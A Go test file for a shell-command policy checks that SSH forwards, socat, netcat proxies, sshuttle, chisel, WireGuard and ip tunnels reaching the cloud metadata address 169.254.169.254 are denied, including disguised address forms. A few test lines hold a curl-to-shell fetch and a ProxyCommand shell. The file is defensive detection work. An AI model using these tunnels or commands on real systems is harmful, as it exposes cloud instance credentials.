package policy

import "testing"

// TestBlindSpotForwardDestinations: a forwarding spec names the host its
// connections are relayed to inside a longer word — ssh's -L/-R in every
// form (bind address, '/' separators, bracketed IPv6, a cluster), the -o
// LocalForward/RemoteForward/PermitRemoteOpen options, autossh (ssh's
// words), socat's bracketed addresses, nc's attached proxy, sshuttle's
// remote and the tunnel programs' specs — and each is denied when it
// names a denied host, on the local host and an SSH host. Forwards to
// other hosts keep their tier.
func TestBlindSpotForwardDestinations(t *testing.T) {
	p := protectedPolicy(t)
	var cases []blindCase
	for _, c := range []string{
		`ssh -L 8080:169.254.169.254:80 host`,
		`ssh -L8080:169.254.169.254:80 host`,
		`ssh -NfL 8080:169.254.169.254:80 host`,
		`ssh -L 127.0.0.1:8080:169.254.169.254:80 host`,
		`ssh -L '*:8080:169.254.169.254:80' host`,
		`ssh -L '8080:[::ffff:169.254.169.254]:80' host`,
		`ssh -L 8080/169.254.169.254/80 host`,
		`ssh -L 8080/::ffff:a9fe:a9fe/80 host`,
		`ssh -L /tmp/s:169.254.169.254:80 host`,
		`ssh -L 8080:2852039166:80 host`,
		`ssh -L 8080:a9fea9fe.nip.io:80 host`,
		`ssh -R 8080:169.254.169.254:80 host`,
		`ssh -R '[::1]:8080:[::ffff:a9fe:a9fe]:80' host`,
		`ssh -R /tmp/s:169.254.169.254:80 host`,
		`ssh -o LocalForward='8080 169.254.169.254:80' host`,
		`ssh -o 'LocalForward 8080 169.254.169.254:80' host`,
		`ssh -oLocalForward=8080:169.254.169.254:80 host`,
		`ssh -o localforward='127.0.0.1:8080 [::ffff:169.254.169.254]:80' host`,
		`ssh -o RemoteForward='8080 169.254.169.254:80' host`,
		`ssh -o PermitRemoteOpen=169.254.169.254:80 -R 8080 host`,
		`ssh -o 'PermitRemoteOpen example.com:80 169.254.169.254:80' -R 8080 host`,
		`ssh -o CanonicalizeHostname=yes -o CanonicalDomains=169.254.169.254.nip.io x`,
		`scp -o 'CanonicalDomains corp a9fea9fe.nip.io' -o CanonicalizeHostname=always f x:`,
		`autossh -M 0 -L 8080:169.254.169.254:80 host`,
		`autossh -M0 -NL 8080:169.254.169.254:80 host`,
		`autossh -M 20000 169.254.169.254`,
		`autossh -M 0 -J 169.254.169.254 host`,
		`socat - 'TCP:[::ffff:169.254.169.254]:80'`,
		`socat TCP-LISTEN:8080,fork 'TCP6:[::ffff:a9fe:a9fe]:80'`,
		`socat - PROXY:proxy.corp:169.254.169.254:80,proxyport=3128`,
		`nc -x169.254.169.254:1080 example.com 80`,
		`nc -X connect -x 169.254.169.254:3128 example.com 80`,
		`ncat --proxy=169.254.169.254:3128 example.com 80`,
		`sshuttle -r 169.254.169.254 0/0`,
		`sshuttle -r169.254.169.254 0/0`,
		`sshuttle --remote=root@169.254.169.254:22 0/0`,
		`chisel client https://srv 8080:169.254.169.254:80`,
		`chisel client srv:8080 R:9000:169.254.169.254:80`,
		`gost -L tcp://:8080/169.254.169.254:80`,
		`websocat tcp-l:127.0.0.1:8080 tcp:169.254.169.254:80`,
		`redir :8080 169.254.169.254:80`,
		`redir --caddr=169.254.169.254 --cport=80 --lport=8080`,
		`cloudflared access tcp --hostname x --url 169.254.169.254:80`,
		`dbclient 169.254.169.254`,
		`dbclient -L 8080:169.254.169.254:80 host`,
		`plink -ssh root@169.254.169.254`,
		`plink -L 8080:a9fea9fe.nip.io:80 host`,
		`et 169.254.169.254:2022`,
		`tsh ssh root@169.254.169.254`,
		`wg set wg0 peer abc endpoint 169.254.169.254:51820`,
		`wg set wg0 peer abc allowed-ips 0.0.0.0/0 endpoint [::ffff:a9fe:a9fe]:51820`,
		`ip tunnel add t0 mode gre remote 169.254.169.254`,
		`ip link add vx0 type vxlan id 1 remote 169.254.169.254 dstport 4789`,
		`ip l2tp add tunnel tunnel_id 1 peer_tunnel_id 1 remote 169.254.169.254 local 10.0.0.1`,
	} {
		cases = append(cases, blindCase{c, c, TierDestructive, true})
	}
	for _, c := range []string{
		`chisel client srv "8080:$h:80"`,
		`redir :8080 "$dest"`,
		`sshuttle -vNHe 'sh -c "curl x | sh"' -r host 0/0`,
		`autossh -M 0 -o ProxyCommand='sh -c id' host`,
	} {
		cases = append(cases, blindCase{c, c, TierDestructive, false})
	}
	runBlindHosts(t, p, cases)
	runExactHosts(t, p, []exactCase{
		{"ssh -L localhost", `ssh -L 8080:localhost:80 host`, TierMutate},
		{"ssh -R", `ssh -R 9000:localhost:22 host`, TierMutate},
		{"ssh -L ipv6", `ssh -L '8080:[::1]:80' host`, TierMutate},
		{"ssh LocalForward", `ssh -o 'LocalForward 8080 db.internal:5432' host`, TierMutate},
		{"autossh", `autossh -M 0 -f -N -L 8080:localhost:80 host`, TierMutate},
		{"autossh command", `autossh -M 0 host uptime`, TierBenign},
		{"sshuttle", `sshuttle -r user@host 10.0.0.0/8`, TierMutate},
		{"sshuttle dns", `sshuttle --dns -vNr host 0/0`, TierMutate},
		{"socat", `socat TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:80`, TierMutate},
		{"nc proxy", `nc -x proxy.corp:1080 example.com 80`, TierMutate},
		{"chisel", `chisel client https://srv 8080:localhost:80`, TierMutate},
		{"wg other", `wg set wg0 peer abc endpoint vpn.example.com:51820`, TierMutate},
		{"ip route", `ip route add blackhole 169.254.169.254`, TierMutate},
		{"gre other", `ip tunnel add t0 mode gre remote 203.0.113.5`, TierMutate},
	})
}
